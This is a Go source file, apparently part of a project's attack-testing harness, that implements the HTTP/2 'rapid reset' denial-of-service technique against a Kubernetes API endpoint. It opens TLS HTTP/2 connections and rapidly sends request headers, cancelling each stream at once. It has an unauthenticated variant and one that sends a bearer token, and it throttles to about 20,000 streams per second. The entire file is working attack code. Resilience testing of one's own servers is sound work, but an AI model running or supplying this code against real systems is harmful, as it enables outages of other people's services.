// Copyright The kubembed Authors
// SPDX-License-Identifier: Apache-2.0

//go:build linux

package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const requests = "/apis/certificates.k8s.io/v1/certificatesigningrequests"

// rapidReset opens streams and cancels them at once, without credentials.
func rapidReset(ctx context.Context, t *target, s *stats) { resets(ctx, t, s, "") }

func rapidResetAuthenticated(ctx context.Context, t *target, s *stats) {
	resets(ctx, t, s, "Bearer "+t.token(joinReset))
}

func resets(ctx context.Context, t *target, s *stats, authorization string) {
	rounds(ctx, 50*time.Millisecond, func() {
		conn, err := t.dialTLS(ctx, "h2")
		if err != nil {
			return
		}
		// Read the server's frames, or it would wait for us.
		read := make(chan struct{})
		go func() {
			defer close(read)
			_, _ = io.Copy(io.Discard, conn)
		}()
		s.answered.Add(1)
		resetStreams(ctx, conn, s, authorization)
		_ = conn.Close()
		<-read
	})
}

// resetStreams uses a connection until the server closes it.
func resetStreams(ctx context.Context, conn net.Conn, s *stats, authorization string) {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	framer := http2.NewFramer(conn, nil)
	if err := framer.WriteSettings(); err != nil {
		return
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	pause := time.NewTicker(10 * time.Millisecond)
	defer pause.Stop()
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		block.Reset()
		fields := []hpack.HeaderField{
			{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"},
			{Name: ":path", Value: fmt.Sprintf("%s?x=%d", requests, id)},
		}
		if authorization != "" {
			fields = append(fields, hpack.HeaderField{Name: "authorization", Value: authorization, Sensitive: true})
		}
		for _, field := range fields {
			_ = encoder.WriteField(field) // to memory
		}
		_ = conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
			framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
		// At most 20,000 in a second: more would only take CPU time from other attacks.
		if s.tries.Add(1)%200 == 0 {
			select {
			case <-ctx.Done():
			case <-pause.C:
			}
		}
	}
}
